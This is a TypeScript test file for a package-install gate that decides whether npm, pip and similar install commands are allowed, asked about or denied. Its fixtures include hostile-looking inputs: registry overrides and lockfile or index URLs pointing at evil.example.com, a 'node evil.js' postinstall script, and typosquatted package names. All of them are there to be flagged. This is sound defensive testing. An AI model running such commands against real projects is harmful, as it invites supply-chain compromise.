import assert from 'node:assert/strict';
import { type TestContext, test } from 'node:test';
import { readCatalogSources } from '../../../../test/support/catalog.ts';
import { startRegistry } from '../../../../test/support/registry.ts';
import {
  assessInstall,
  compileLookAlike,
  type InstallPorts,
  installCatalog,
  platformFetch,
  readInstall,
  readRegistries,
} from './index.ts';
import { readNpmLock, readOtherLock } from './lockfile.ts';
import { distance } from './look-alike.ts';
import { pickVersion } from './version.ts';

const rules = installCatalog(await readCatalogSources('policies'));
const now = () => new Date('2026-11-24T00:00:00Z');

const packages = {
  express: { versions: { '4.0.0': {}, '5.1.0': {} }, weekly: 40_000_000 },
  'solid-internal-tool': { versions: { '1.2.0': {} }, weekly: 5_000 },
  expresss: { versions: { '1.0.0': {} }, weekly: 40 },
  exprress: { versions: { '1.0.0': {} }, weekly: 30_000 },
  'brand-new-thing': {
    versions: { '0.0.1': { published: '2026-11-20T00:00:00Z' } },
    created: '2026-11-20T00:00:00Z',
    weekly: 3,
  },
  'stolen-release': { versions: { '1.0.0': {}, '1.0.1': { published: '2026-11-23T20:00:00Z' } }, weekly: 90_000 },
  'with-scripts': { versions: { '1.0.0': { scripts: { postinstall: 'node evil.js' } } }, weekly: 90_000 },
  'holey-parser': {
    versions: { '1.0.0': {}, '1.0.1': {} },
    weekly: 90_000,
    advisories: [{ version: '1.0.0', severity: 'high', title: 'overwrites prototypes' }],
  },
  'old-thing': { versions: { '1.0.0': { deprecated: 'use another' } }, weekly: 90_000 },
  'not-searched': { versions: { '1.0.0': {} } },
  '@team/tool': { versions: { '1.0.0': {} }, weekly: 2_000 },
};
const pypi = {
  requests: {
    info: { version: '2.32.0' },
    releases: { '2.32.0': [{ upload_time_iso_8601: '2024-05-20T00:00:00Z', packagetype: 'bdist_wheel' }] },
    vulnerabilities: [],
  },
  'sdist-only': {
    info: { version: '1.0' },
    releases: { '1.0': [{ upload_time_iso_8601: '2020-05-20T00:00:00Z', packagetype: 'sdist' }] },
    vulnerabilities: [{ id: 'PYSEC-1', summary: 'runs code' }],
  },
};

async function lab(t: TestContext, files: Record<string, string> = {}) {
  const registry = await startRegistry(packages, pypi);
  t.after(() => registry.close());
  const ports: InstallPorts = {
    registries: readRegistries('npm', { own: registry.address, files: [], env: {} }),
    projectRegistries: readRegistries('npm', { files: files['.npmrc'] ? [files['.npmrc']] : [], env: {} }),
    fetch: platformFetch,
    now,
    read: async (path) => files[path],
  };
  const assess = async (line: string, more: Partial<InstallPorts> = {}) => {
    const request = readInstall(line.split(' '));
    assert.ok(request, line);
    const verdict = await assessInstall(request, { ...ports, ...more }, rules);
    return { ...verdict, ids: verdict.concerns.map((concern) => concern.id) };
  };
  return { registry, assess };
}

test('a well-known package is allowed, asked of the configured registry and of nobody else', async (t) => {
  const { assess, registry } = await lab(t);
  const verdict = await assess('npm install express');
  assert.deepEqual([verdict.effect, verdict.ids, verdict.facts[0]?.version], ['allow', [], '5.1.0']);
  assert.deepEqual(verdict.hosts, [registry.host]);
  assert.ok(registry.requests.includes('GET /express'));
  for (const line of [
    'pnpm add solid-internal-tool',
    'yarn add -D @team/tool',
    'bun add express@^4.0.0',
    'npm i --save-dev express@4',
  ])
    assert.equal((await assess(line)).effect, 'allow', line);
});

test('a name that does not exist is refused, with the likely one', async (t) => {
  const { assess } = await lab(t);
  const verdict = await assess('npm install express-jwt-validator-fast');
  assert.deepEqual([verdict.effect, verdict.ids], ['deny', ['unknown-package']]);
  const typo = await assess('npm install exprss');
  assert.match(typo.concerns[0]?.text ?? '', /did you mean `express`/);
});

const judged: [string, string, string][] = [
  ['npm install expresss', 'deny', 'look-alike'],
  ['npm install exprress', 'ask', 'look-alike-in-use'],
  ['npm install brand-new-thing', 'ask', 'young-package'],
  ['npm install stolen-release', 'ask', 'young-version'],
  ['npm install stolen-release@1.0.0', 'allow', ''],
  ['npm install with-scripts', 'allow', 'install-scripts'],
  ['npm install holey-parser@1.0.0', 'ask', 'vulnerable-high'],
  ['npm install holey-parser', 'allow', ''],
  ['npm install old-thing', 'allow', 'deprecated'],
  ['npm install not-searched', 'allow', 'downloads-unknown'],
  ['npm install express@99', 'deny', 'unknown-version'],
  ['npm install fs', 'deny', 'built-in-module'],
  ['npm install ./evil-1.0.0.tgz', 'ask', 'not-from-registry'],
  ['npm install owner/repository', 'ask', 'not-from-registry'],
  ['npm install express@git+https://example.com/x.git', 'ask', 'not-from-registry'],
  ['npm install https://example.com/x.tgz', 'ask', 'not-from-registry'],
  ['npm install -g express', 'ask', 'global'],
  ['npx create-something-else', 'deny', 'unknown-package'],
  ['npx express', 'ask', 'runs-at-once'],
  ['npm install express --registry=http://evil.example.com', 'deny', 'registry-overridden'],
  ['npm install express --registry http://evil.example.com/', 'deny', 'registry-overridden'],
  ['npm install --ignore-scripts=false express', 'ask', 'not-from-registry'],
  ['npm install express exprss', 'deny', 'unknown-package'],
  ['npm install alias@npm:expresss', 'deny', 'look-alike'],
];
test('each doubt has its effect and its reason', async (t) => {
  const { assess } = await lab(t);
  for (const [line, effect, id] of judged) {
    const verdict = await assess(line);
    assert.equal(verdict.effect, effect, `${line}: ${JSON.stringify(verdict.concerns)}`);
    if (id)
      assert.ok(
        verdict.ids.some((one) => one === id),
        `${line}: ${verdict.ids}`,
      );
    else assert.deepEqual(verdict.ids, [], line);
  }
});

test('offline, or without a known registry, what cannot be checked is refused with the reason', async (t) => {
  const { assess } = await lab(t);
  const down = readRegistries('npm', { own: 'http://127.0.0.1:1', files: [], env: {} });
  const offline = await assess('npm install express', { registries: down });
  assert.deepEqual([offline.effect, offline.ids], ['deny', ['unreachable']]);
  assert.match(offline.concerns[0]?.text ?? '', /127\.0\.0\.1:1 was not reached/);
  const unknown = await assess('npm install express', { registries: readRegistries('npm', { files: [], env: {} }) });
  assert.deepEqual([unknown.effect, unknown.ids], ['deny', ['unreachable']]);
});

test('a project that sends installs to another registry is asked about, and that one is not asked anything', async (t) => {
  const theirs = await startRegistry(packages);
  t.after(() => theirs.close());
  const { assess } = await lab(t, { '.npmrc': `registry=${theirs.address}/\n` });
  const verdict = await assess('npm install express');
  assert.deepEqual([verdict.effect, verdict.ids], ['ask', ['project-registry']]);
  assert.deepEqual(theirs.requests, []);
});

function lockfile(entries: Record<string, object>): string {
  const packages = Object.fromEntries(Object.entries(entries).map(([name, entry]) => [`node_modules/${name}`, entry]));
  return JSON.stringify({ lockfileVersion: 3, packages: { '': {}, ...packages } });
}

test('installing from a lockfile needs the registry alone, and says where the lockfile is loose', async (t) => {
  const first = await lab(t);
  const good = lockfile({ express: { ...first.registry.tarball('express', '5.1.0'), version: '5.1.0' } });
  const manifest = JSON.stringify({ dependencies: { express: '^5.0.0' } });
  const ports = (lock: string): Partial<InstallPorts> => ({
    read: async (path) => (path === 'package-lock.json' ? lock : path === 'package.json' ? manifest : undefined),
  });
  for (const line of ['npm ci', 'npm install']) {
    const verdict = await first.assess(line, ports(good));
    assert.deepEqual([verdict.effect, verdict.ids, verdict.hosts], ['allow', [], [first.registry.host]], line);
  }
  const foreign = lockfile({
    express: { resolved: 'http://evil.example.com/e.tgz', integrity: 'sha512-x', version: '5.1.0' },
  });
  const sent = await first.assess('npm ci', ports(foreign));
  assert.deepEqual([sent.effect, sent.ids, sent.hosts], ['deny', ['registry-overridden'], []]);
  const loose = lockfile({ express: { resolved: `${first.registry.address}/e.tgz`, version: '5.1.0' } });
  assert.deepEqual((await first.assess('npm ci', ports(loose))).ids, ['not-from-registry']);
  const fromGit = lockfile({ express: { resolved: 'git+ssh://git@example.com/x.git#1', version: '5.1.0' } });
  assert.equal((await first.assess('npm ci', ports(fromGit))).effect, 'ask');
  assert.deepEqual((await first.assess('npm ci', ports('{broken'))).effect, 'deny');
  assert.deepEqual((await first.assess('npm ci')).ids, ['outside-lockfile']);
});

test('what the manifest has and the lockfile has not is judged like an addition', async (t) => {
  const { assess, registry } = await lab(t);
  const lock = lockfile({ express: { ...registry.tarball('express', '5.1.0'), version: '5.1.0' } });
  const manifest = JSON.stringify({ dependencies: { express: '^5.0.0', expresss: '^1.0.0' } });
  const read: InstallPorts['read'] = async (path) =>
    path === 'package-lock.json' ? lock : path === 'package.json' ? manifest : undefined;
  const verdict = await assess('npm install', { read });
  assert.equal(verdict.effect, 'deny');
  assert.ok(verdict.ids.includes('look-alike') && verdict.ids.includes('outside-lockfile'));
});

test('pip: names, requirement files, wheels only, vulnerabilities', async (t) => {
  const { assess, registry } = await lab(t, {
    'requirements.txt': 'requests==2.32.0 \\\n  --hash=sha256:aa\n# comment\nsdist-only\n',
    'bad.txt': '--extra-index-url http://evil.example.com/simple\nrequests\n',
  });
  const registries = readRegistries('pypi', { own: `${registry.address}/simple`, files: [], env: {} });
  const pip = (line: string) =>
    assess(line, { registries, projectRegistries: readRegistries('pypi', { files: [], env: {} }) });
  assert.equal((await pip('pip install requests')).effect, 'allow');
  assert.equal((await pip('python3 -m pip install requests>=2.0')).effect, 'allow');
  assert.equal((await pip('pip install reqeusts')).effect, 'deny');
  assert.ok((await pip('pip install -r requirements.txt')).ids.includes('vulnerable-high'));
  assert.ok((await pip('pip install -r requirements.txt')).ids.includes('install-scripts'));
  assert.equal((await pip('pip install -r bad.txt')).effect, 'deny');
  assert.equal((await pip('pip install --index-url http://evil.example.com/simple requests')).effect, 'deny');
  assert.equal((await pip('uv pip install git+https://example.com/x')).effect, 'ask');
});

test("commands that install nothing are none of the gate's business", () => {
  for (const line of [
    'npm test',
    'npm run build',
    'node install',
    'npx --no-install tsc',
    'pip list',
    'yarn run x',
    'git add x',
  ])
    assert.equal(readInstall(line.split(' ')), undefined, line);
});

test("look-alikes of the catalogue's samples are told, honest names are not", () => {
  for (const ecosystem of ['npm', 'pypi'] as const) {
    const alike = compileLookAlike(ecosystem, rules);
    for (const name of rules.samples?.[ecosystem]['look-alike'] ?? []) assert.ok(alike(name), name);
    for (const name of rules.samples?.[ecosystem].fine ?? []) assert.equal(alike(name), undefined, name);
    const popular = rules.popular[ecosystem];
    assert.deepEqual(
      popular.filter((name) => alike(name) !== undefined),
      [],
    );
  }
  assert.equal(distance('abcd', 'abdc', 2), 1);
  assert.equal(distance('abcd', 'wxyz', 2), 3);
});

test('registries are read from settings, the stronger first, and from nowhere else', () => {
  const found = readRegistries('npm', {
    own: 'https://own.example.com/',
    files: [
      '@team:registry=https://team.example.com/npm/\nregistry = https://user.example.com',
      'registry=https://other.example.com',
    ],
    env: { npm_config_cache: '/x' },
  });
  assert.equal(found.of('express'), 'https://user.example.com');
  assert.equal(found.of('@team/tool'), 'https://team.example.com/npm');
  assert.deepEqual(readRegistries('npm', { files: ['registry=not an address'], env: {} }).all(), []);
  assert.deepEqual(readRegistries('npm', { files: [], env: { npm_config_registry: 'http://e/' } }).all(), ['http://e']);
  assert.equal(
    readRegistries('pypi', { files: ['[global]\nindex-url = https://pi.example.com/simple'], env: {} }).of('x'),
    'https://pi.example.com/simple',
  );
});

test('the version that would be installed is found as the package manager would', () => {
  const versions = ['1.0.0', '1.2.0', '1.10.0', '2.0.0', '3.0.0-beta.1'];
  const cases: [string | undefined, string | undefined][] = [
    [undefined, '2.0.0'],
    ['^1.0.0', '1.10.0'],
    ['~1.2.0', '1.2.0'],
    ['1', '1.10.0'],
    ['1.x', '1.10.0'],
    ['>=1.2 <2', '1.10.0'],
    ['1.0.0 - 1.2.0', '1.2.0'],
    ['3.0.0-beta.1', '3.0.0-beta.1'],
    ['^4', undefined],
    ['1.0.0 || 2.0.0', '2.0.0'],
    ['nonsense!', undefined],
    ['==1.2.0', '1.2.0'],
    ['~=1.2.0', '1.2.0'],
    ['*', '2.0.0'],
  ];
  for (const [range, wanted] of cases) assert.equal(pickVersion(versions, range, { latest: '2.0.0' }), wanted, range);
});

test('lockfiles of the other package managers are read', () => {
  const yarn = readOtherLock(
    'express@^5.0.0:\n  version "5.1.0"\n  resolved "https://r.example.com/express/-/express-5.1.0.tgz#0123456789012345678901234567890123456789"\n  integrity sha512-x\n',
  );
  assert.deepEqual([...yarn.hosts], ['r.example.com']);
  assert.deepEqual(yarn.loose, []);
  const pnpm = readOtherLock('packages:\n\n  express@5.1.0:\n    resolution: {integrity: sha512-x}\n');
  assert.ok(pnpm.names.has('express'));
  const old = readNpmLock(
    JSON.stringify({
      lockfileVersion: 1,
      dependencies: {
        a: {
          version: '1.0.0',
          resolved: 'https://r/a.tgz',
          integrity: 'x',
          dependencies: { b: { version: '1.0.0', resolved: 'https://r/b.tgz', integrity: 'x' } },
        },
      },
    }),
  );
  assert.deepEqual([...old.names], ['a', 'b']);
});

test('a concern without an effect in the catalogue is refused; broken files are errors', async (t) => {
  const { registry } = await lab(t);
  const request = readInstall(['npm', 'install', 'with-scripts']);
  assert.ok(request);
  const { 'install-scripts': _gone, ...concerns } = rules.concerns;
  const registries = readRegistries('npm', { own: registry.address, files: [], env: {} });
  const ports = {
    registries,
    projectRegistries: readRegistries('npm', { files: [], env: {} }),
    fetch: platformFetch,
    now,
    read: async () => undefined,
  };
  assert.equal(
    (await assessInstall(request, ports, { ...rules, concerns: concerns as typeof rules.concerns })).effect,
    'deny',
  );
  assert.throws(() => installCatalog([{ file: 'install/gate.yaml', data: { extra: 1 } }]), { code: 'input.broken' });
});
